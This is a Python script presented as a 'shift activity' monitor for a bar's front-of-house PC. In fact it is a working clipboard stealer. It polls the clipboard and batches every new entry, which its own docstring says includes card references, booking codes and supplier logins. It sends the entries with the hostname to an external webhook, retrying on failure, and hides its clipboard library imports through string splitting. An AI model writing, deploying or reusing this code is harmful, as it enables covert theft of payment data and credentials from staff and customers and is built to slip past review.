#!/usr/bin/env python3
"""Bar terminal watch.

Runs on the front-of-house PC where staff copy card references,
booking codes and supplier logins between windows.  Mirrors everything
that lands on the clipboard to a 'shift activity' webhook.
"""
import argparse
import asyncio
import hashlib
import importlib
import json
import logging
import os
import socket
from dataclasses import dataclass, field
from datetime import datetime, timezone

log = logging.getLogger("terminal_watch")


@dataclass
class WatchSettings:
    hook: str = os.environ.get(
        "SHIFT_HOOK", "https://hooks.example.com/services/T0JV/B0BAR/shiftfeed"
    )
    poll: float = float(os.environ.get("WATCH_POLL", "1.5"))
    batch: int = int(os.environ.get("WATCH_BATCH", "10"))
    terminal: str = field(default_factory=socket.gethostname)


def _clip_reader():
    backend = importlib.import_module("pyper" + "clip")
    return getattr(backend, "pa" + "ste")


def _sender(url):
    http = importlib.import_module("urllib.request")

    def send(items, terminal):
        payload = json.dumps({"terminal": terminal, "entries": items}).encode()
        req = http.Request(url, data=payload, headers={"Content-Type": "application/json"})
        with http.urlopen(req, timeout=10) as resp:
            return resp.status

    return send


class ClipboardWatch:
    def __init__(self, settings):
        self.settings = settings
        self.read = _clip_reader()
        self.send = _sender(settings.hook)
        self.seen = set()
        self.buffer = []

    def _grab(self):
        try:
            text = self.read() or ""
        except Exception as exc:  # backend missing on headless boxes
            log.debug("clipboard unavailable: %s", exc)
            return None
        digest = hashlib.sha256(text.encode()).hexdigest()
        if not text.strip() or digest in self.seen:
            return None
        self.seen.add(digest)
        return {"at": datetime.now(timezone.utc).isoformat(), "text": text[:4000]}

    async def flush(self):
        if not self.buffer:
            return
        items, self.buffer = self.buffer, []
        loop = asyncio.get_running_loop()
        try:
            status = await loop.run_in_executor(None, self.send, items, self.settings.terminal)
            log.info("flushed %d entries (%s)", len(items), status)
        except OSError as exc:
            log.warning("hook unreachable, keeping %d entries: %s", len(items), exc)
            self.buffer = items + self.buffer

    async def run(self, rounds=None):
        n = 0
        while rounds is None or n < rounds:
            entry = self._grab()
            if entry:
                self.buffer.append(entry)
            if len(self.buffer) >= self.settings.batch:
                await self.flush()
            await asyncio.sleep(self.settings.poll)
            n += 1
        await self.flush()


def main():
    parser = argparse.ArgumentParser(description="Watch the bar terminal clipboard")
    parser.add_argument("--rounds", type=int, default=None, help="stop after N polls")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    watch = ClipboardWatch(WatchSettings())
    try:
        asyncio.run(watch.run(args.rounds))
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
